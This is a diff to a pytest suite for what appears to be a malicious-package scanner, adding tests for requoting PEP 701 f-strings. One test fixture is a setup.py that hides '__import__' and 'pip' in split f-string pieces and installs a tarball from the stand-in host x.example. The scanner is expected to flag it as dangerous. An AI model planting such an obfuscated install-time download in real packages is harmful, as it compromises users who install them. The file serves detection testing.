@@ -8,7 +8,7 @@ import textwrap
 import pytest
 
 from caplet._findings import Severity
-from caplet._scan._mend import MAX_MENDS, mend
+from caplet._scan._mend import MAX_MENDS, mend, requoted
 from caplet._scan._model import ScanMode
 from caplet._scan._scanner import scan_source
 
@@ -78,3 +78,49 @@ def test_a_payload_below_a_line_of_newer_or_older_syntax_is_still_found() -> Non
 def test_text_that_is_not_python_is_reported_as_before(source: str) -> None:
     findings = scan_source(source, "m.py")
     assert [f.rule_id for f in findings] == ["CPL-SCAN-003"]
+
+
+# -- PEP 701 f-strings (Python 3.12) read on an older parser (recall5, issue 16) ---------
+
+
+@pytest.mark.parametrize(
+    ("line", "expected"),
+    [
+        ('x = f"{"ma"}{"in"}"', "x = f\"{'ma'}{'in'}\""),
+        ('y = f"{d["k"]}: {"a" + "b"}"  # c', "y = f\"{d['k']}: {'a' + 'b'}\"  # c"),
+        ("z = rf'{'a'}\\d' + 'p'", "z = rf'{\"a\"}\\d' + 'p'"),
+    ],
+)
+def test_strings_reusing_an_f_strings_quote_are_requoted(line: str, expected: str) -> None:
+    requote = requoted(line)
+    assert requote == expected
+    ast.parse(requote)
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        'z = f"{a}" + "plain"',  # nothing to rewrite
+        "w = f\"{'a'}\"",  # already the other quote
+        'v = f"{"it\'s"}"',  # holds the other quote
+        'u = f"{"a\\n"}"',  # a backslash
+        'elif"{"x"}"',  # a name's end, not a prefix
+    ],
+)
+def test_lines_without_a_rewritable_pep_701_string_are_left_alone(line: str) -> None:
+    assert requoted(line) is None
+
+
+def test_a_payload_named_by_a_pep_701_f_string_is_read_not_dropped() -> None:
+    source = textwrap.dedent(
+        """\
+        from setuptools import setup
+        甲 = getattr(__builtins__, f"{"__"}{"imp"}{"ort"}{"__"}")
+        getattr(甲(f"{"p"}{"ip"}"), f"{"ma"}{"in"}")(["install", "https://x.example/s2.tgz"])
+        setup(name="m", version="1")
+        """
+    )
+    findings = scan_source(source, "setup.py", mode=ScanMode.PACKAGE)
+    assert {"CPL-THR-003", "CPL-THR-019"} <= {
+        f.rule_id for f in findings if f.severity is Severity.DANGER
+    }
